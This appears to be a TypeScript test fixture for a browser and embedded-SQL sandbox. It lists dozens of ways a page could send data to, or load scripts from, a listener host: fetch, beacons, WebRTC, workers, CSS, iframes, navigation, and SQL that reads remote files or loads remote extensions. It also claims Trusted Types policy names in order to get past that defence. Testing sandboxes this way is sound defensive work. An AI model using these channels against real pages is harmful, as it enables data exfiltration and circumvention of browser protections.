/** Where an attempt tries to send to: a host name of its own at the listener. */
export interface Target {
  host: string;
  /** Without a slash at its end. */
  http: string;
  ws: string;
  /** A UDP port of the listener. */
  udp: number;
}

/**
 * Runs in the page, from its text: no names from outside, except `lax`, see `openTrustedTypes`.
 * Text where the test runner would rewrite the code.
 */
export type Attempt = ((to: Target) => unknown) | string;

declare const lax: { html(text: string): string; script(address: string): string };
declare const RTCPeerConnection: new (options?: object) => {
  createDataChannel(name: string): void;
  createOffer(): Promise<object>;
  setLocalDescription(offer: object): Promise<void>;
};
declare const fetchLater: (address: string, options: object) => void;

/**
 * Puts `lax` into the page: takes a Trusted Types policy for itself where one is still to be had, so that the
 * other walls are tried as well.
 */
export function openTrustedTypes(): void {
  const { trustedTypes } = globalThis as unknown as {
    trustedTypes?: { createPolicy(name: string, rules: object): Record<string, unknown> };
  };
  const same = (text: string): string => text;
  const rules = { createHTML: same, createScript: same, createScriptURL: same };
  let policy: Record<string, (text: string) => string> = rules;
  for (const name of ['dompurify', 'svelte-trusted-html', 'assay', 'default', 'lax']) {
    try {
      policy = trustedTypes?.createPolicy(name, rules) as typeof policy;
      break;
    } catch {
      continue;
    }
  }
  Object.assign(globalThis, {
    lax: {
      html: (text: string) => policy['createHTML']!(text),
      script: (address: string) => policy['createScriptURL']!(address),
    },
  });
}

/** Attempts that leave the page where it is; all can run in one page. */
export const quietAttempts: Record<string, Attempt> = {
  fetch: ({ http }) => fetch(`${http}/data`, { method: 'POST', body: 'rows', mode: 'no-cors' }),
  'fetch-keepalive': ({ http }) => fetch(http, { keepalive: true, mode: 'no-cors' }),
  'fetch-later': ({ http }) => fetchLater(http, { activateAfter: 0 }),
  xhr: ({ http }) => {
    const request = new XMLHttpRequest();
    request.open('GET', http);
    request.send();
  },
  beacon: ({ http }) => {
    const send = Reflect.get(navigator, 'sendBeacon') as (...words: string[]) => boolean;
    Reflect.apply(send, navigator, [http, 'rows']);
  },
  websocket: ({ ws }) => void new WebSocket(ws),
  eventsource: ({ http }) => void new EventSource(http),
  webtransport: ({ host, udp }) => new WebTransport(`https://${host}:${udp}/`).ready,
  webrtc: async ({ host, udp }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:${udp}` }] });
    peer.createDataChannel('rows');
    await peer.setLocalDescription(await peer.createOffer());
  },
  image: ({ http }) => void (new Image().src = `${http}/rows.png`),
  'image-srcset': ({ http }) => void (new Image().srcset = `${http}/rows.png 1x`),
  'image-input': ({ http }) =>
    document.body.append(
      Object.assign(document.createElement('input'), { type: 'image', src: http }),
    ),
  'image-svg': ({ http }) => {
    const space = 'http://www.w3.org/2000/svg';
    const svg = document.createElementNS(space, 'svg');
    const image = document.createElementNS(space, 'image');
    image.setAttribute('href', `${http}/rows.png`);
    svg.append(image);
    document.body.append(svg);
  },
  'image-cursor': ({ http }) => {
    const box = document.createElement('div');
    box.style.cssText = `width: 9px; height: 9px; list-style: url(${http}/rows.png); display: list-item`;
    document.body.append(box);
  },
  'css-url': ({ http }) => {
    const box = document.createElement('div');
    box.style.cssText = `width: 9px; height: 9px; background: url(${http}/rows.png)`;
    document.body.append(box);
  },
  'css-import': ({ http }) => {
    const style = document.createElement('style');
    style.textContent = `@import url(${http}/rows.css);`;
    document.head.append(style);
  },
  font: async ({ http }) => {
    const face = new FontFace('leak', `url(${http}/rows.woff2)`);
    document.fonts.add(face);
    await face.load();
  },
  audio: ({ http }) => new Audio(`${http}/rows.mp3`).play(),
  video: ({ http }) => {
    const video = Object.assign(document.createElement('video'), { src: `${http}/rows.mp4` });
    document.body.append(video);
    video.load();
  },
  'video-poster': ({ http }) =>
    document.body.append(Object.assign(document.createElement('video'), { poster: http })),
  track: ({ http }) => {
    const video = document.createElement('video');
    video.crossOrigin = 'anonymous';
    const track = Object.assign(document.createElement('track'), { src: http, default: true });
    video.append(track);
    document.body.append(video);
    track.track.mode = 'showing';
  },
  stylesheet: ({ http }) => {
    const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: http });
    document.head.append(link);
  },
  prefetch: ({ http }) => {
    const link = Object.assign(document.createElement('link'), { rel: 'prefetch', href: http });
    document.head.append(link);
  },
  preload: ({ http }) => {
    const link = Object.assign(document.createElement('link'), { rel: 'preload', href: http });
    link.as = 'image';
    document.head.append(link);
  },
  modulepreload: ({ http }) => {
    const link = Object.assign(document.createElement('link'), {
      rel: 'modulepreload',
      href: http,
    });
    document.head.append(link);
  },
  preconnect: ({ http }) => {
    const link = Object.assign(document.createElement('link'), { rel: 'preconnect', href: http });
    document.head.append(link);
  },
  'dns-prefetch': ({ http }) => {
    const link = Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: http });
    document.head.append(link);
  },
  icon: ({ http }) => {
    const link = Object.assign(document.createElement('link'), { rel: 'icon', href: http });
    document.head.append(link);
  },
  manifest: ({ http }) => {
    document.querySelector('link[rel=manifest]')?.remove();
    const link = Object.assign(document.createElement('link'), { rel: 'manifest', href: http });
    document.head.append(link);
  },
  prerender: ({ http }) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({ prefetch: [{ urls: [http], eagerness: 'immediate' }] });
    document.head.append(script);
  },
  script: ({ http }) => {
    const script = document.createElement('script');
    script.src = lax.script(`${http}/rows.js`);
    document.head.append(script);
  },
  'dynamic-import': '({ http }) => import(`${http}/rows.js`)',
  'inline-handler': ({ http }) => {
    const box = document.createElement('div');
    box.innerHTML = lax.html(`<img src="data:," onerror="fetch('${http}')">`);
    document.body.append(box);
  },
  markup: ({ http }) => {
    const box = document.createElement('div');
    box.innerHTML = lax.html(`<img src="${http}/rows.png"><table background="${http}/rows.png">`);
    document.body.append(box);
  },
  iframe: ({ http }) =>
    document.body.append(Object.assign(document.createElement('iframe'), { src: http })),
  'iframe-srcdoc': ({ http }) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = lax.html(`<img src="${http}/rows.png">`);
    document.body.append(frame);
  },
  object: ({ http }) =>
    document.body.append(Object.assign(document.createElement('object'), { data: http })),
  embed: ({ http }) =>
    document.body.append(
      Object.assign(document.createElement('embed'), { src: http, type: 'text/html' }),
    ),
  'form-in-frame': ({ http }) => {
    const box = document.createElement('div');
    box.innerHTML = lax.html(
      `<iframe name="leak"></iframe><form action="${http}" method="post" target="leak"><input name="rows"></form>`,
    );
    document.body.append(box);
    box.querySelector('form')!.submit();
  },
  ping: ({ http }) => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: http });
    document.body.append(link);
    link.click();
  },
  'service-worker': ({ http }) => navigator.serviceWorker.register(lax.script(`${http}/rows.js`)),
  'worker-address': ({ http }) => void new Worker(lax.script(`${http}/rows.js`)),
  'shared-worker': ({ http }) => void new SharedWorker(lax.script(`${http}/rows.js`)),
  'worker-fetch': ({ http }) => {
    const text = `fetch('${http}', { mode: 'no-cors' })`;
    void new Worker(lax.script(URL.createObjectURL(new Blob([text]))));
  },
  'worker-xhr': ({ http }) => {
    const text = `const r = new XMLHttpRequest(); r.open('GET', '${http}', false); r.send()`;
    void new Worker(lax.script(URL.createObjectURL(new Blob([text]))));
  },
  'worker-import-scripts': ({ http }) => {
    const text = `
      const policy = self.trustedTypes?.createPolicy('dompurify', { createScriptURL: (text) => text });
      importScripts(policy ? policy.createScriptURL('${http}/rows.js') : '${http}/rows.js')`;
    void new Worker(lax.script(URL.createObjectURL(new Blob([text]))));
  },
  'worker-import': ({ http }) => {
    const script = new Blob([`import '${http}/rows.js'`], { type: 'text/javascript' });
    void new Worker(lax.script(URL.createObjectURL(script)), { type: 'module' });
  },
  'worker-dynamic-import': ({ http }) => {
    const script = new Blob([`import('${http}/rows.js')`], { type: 'text/javascript' });
    void new Worker(lax.script(URL.createObjectURL(script)), { type: 'module' });
  },
  'worker-websocket': ({ ws }) => {
    const text = `new WebSocket('${ws}')`;
    void new Worker(lax.script(URL.createObjectURL(new Blob([text]))));
  },
  'worker-eventsource': ({ http }) => {
    const text = `new EventSource('${http}')`;
    void new Worker(lax.script(URL.createObjectURL(new Blob([text]))));
  },
  'worker-in-worker': ({ http }) => {
    const inner = `fetch('${http}', { mode: 'no-cors' })`;
    const text = `
      const policy = self.trustedTypes?.createPolicy('dompurify', { createScriptURL: (text) => text });
      const address = URL.createObjectURL(new Blob([${JSON.stringify(inner)}]));
      new Worker(policy ? policy.createScriptURL(address) : address)`;
    void new Worker(lax.script(URL.createObjectURL(new Blob([text]))));
  },
};

/**
 * Attempts that would take the page away or open another, each in a page of its own.
 * WebRTC in a frame is among them because Chromium 156 ends a page that tries it under an allow-list.
 */
export const leavingAttempts: Record<string, Attempt> = {
  'webrtc-frame': async ({ host, udp }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const { RTCPeerConnection: Other } = frame.contentWindow as unknown as {
      RTCPeerConnection: typeof RTCPeerConnection;
    };
    const peer = new Other({ iceServers: [{ urls: `stun:${host}:${udp}` }] });
    peer.createDataChannel('rows');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'location-assign': ({ http }) => location.assign(`${http}/?rows`),
  'location-replace': ({ http }) => location.replace(`${http}/?rows`),
  'anchor-click': ({ http }) => {
    const link = Object.assign(document.createElement('a'), { href: `${http}/?rows` });
    document.body.append(link);
    link.click();
  },
  'anchor-new-tab': ({ http }) => {
    const link = Object.assign(document.createElement('a'), { href: `${http}/?rows` });
    link.target = '_blank';
    document.body.append(link);
    link.click();
  },
  'window-open': ({ http }) => void open(`${http}/?rows`),
  'window-open-noopener': ({ http }) => void open(`${http}/?rows`, '_blank', 'noopener'),
  'form-submit': ({ http }) => {
    const form = Object.assign(document.createElement('form'), { action: http, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'meta-refresh': ({ http }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0; url=${http}/?rows`;
    document.head.append(meta);
  },
};

/** SQL that would reach out, by way of the engine. */
export const sqlAttempts: Record<string, (to: Target) => string> = {
  'sql-read-csv': ({ http }) => `SELECT * FROM read_csv('${http}/rows.csv')`,
  'sql-from-address': ({ http }) => `SELECT * FROM '${http}/rows.csv'`,
  'sql-read-text': ({ http }) => `SELECT * FROM read_text('${http}/rows.csv')`,
  'sql-attach': ({ http }) => `ATTACH '${http}/rows.db' AS leak`,
  'sql-copy': ({ http }) => `COPY (SELECT 1) TO '${http}/rows.csv'`,
  'sql-export': ({ http }) => `EXPORT DATABASE '${http}/rows'`,
  'sql-install': ({ http }) => `INSTALL leak FROM '${http}'`,
  'sql-load-installed': () => 'LOAD leak',
  'sql-load': ({ http }) => `LOAD '${http}/leak.duckdb_extension.wasm'`,
  'sql-repository': ({ http }) => `SET custom_extension_repository = '${http}'`,
  'sql-unlock': () => 'SET enable_external_access = true',
};
